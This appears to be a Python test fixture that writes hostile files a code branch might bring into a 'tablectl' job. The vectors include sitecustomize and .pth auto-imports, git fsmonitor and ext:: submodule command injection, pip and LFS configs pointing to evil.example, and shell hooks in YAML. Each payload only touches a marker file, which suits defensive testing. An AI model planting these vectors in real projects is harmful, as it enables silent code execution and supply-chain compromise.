"""Files that a branch can bring, which programs of a job could take for code or configuration."""

from __future__ import annotations

from pathlib import Path

MODULES = ("sitecustomize", "usercustomize", "tablectl", "pip", "yaml", "json", "tablectl_guard", "hooks", "pyspark")


def hostile_files(pwned: Path) -> dict[str, str]:
    """Their texts; each makes the file ``pwned`` if it is run."""
    run, shell = f"import pathlib; pathlib.Path({str(pwned)!r}).write_text('x')\n", f"touch {pwned}"
    rules = "[tablectl.lint_rules]\nX1 = sitecustomize:run\n"
    index = "[global]\nindex-url = https://evil.example\n"
    return {f"{name}.py": run for name in MODULES} | {
        "evil.pth": run,
        "evil-1.dist-info/entry_points.txt": rules,
        "evil.egg-info/entry_points.txt": rules,
        "pyvenv.cfg": "home = .\n",
        "pip.conf": index,
        ".config/pip/pip.conf": index,
        ".netrc": "machine evil.example login a password b\n",
        ".env": f"PATH=.\nBASH_ENV=.bashrc\nTABLECTL_BASE_CONFIG={pwned}\n",
        ".bashrc": shell,
        ".profile": shell,
        "bin/python": shell,
        "bin/spark-submit": shell,
        "jars/kept": "",
        "setup.py": run,
        "conftest.py": run,
        ".gitattributes": "* filter=evil diff=evil\n",
        ".gitconfig": f"[core]\nfsmonitor = {shell}\n",
        ".lfsconfig": "[lfs]\nurl = https://evil.example\n",
        ".gitmodules": f'[submodule "x"]\npath = x\nurl = ext::{shell}\nupdate = !{shell}\n',
        "HEAD": "ref: refs/heads/main\n",
        "refs/heads/kept": "",
        "objects/kept": "",
        "config": f"[core]\nbare = true\nfsmonitor = {shell}\n",
        "tablectl.yaml": f"window: {{before: [sh, -c, '{shell}']}}\nnotify: [{{command: [sh, -c, '{shell}']}}]\n",
        "tablectl-base/requirements/tablectl.txt": "evil\n",
        "tablectl-jobs/tablectl/reviewed/plan.json": "{}\n",
    }
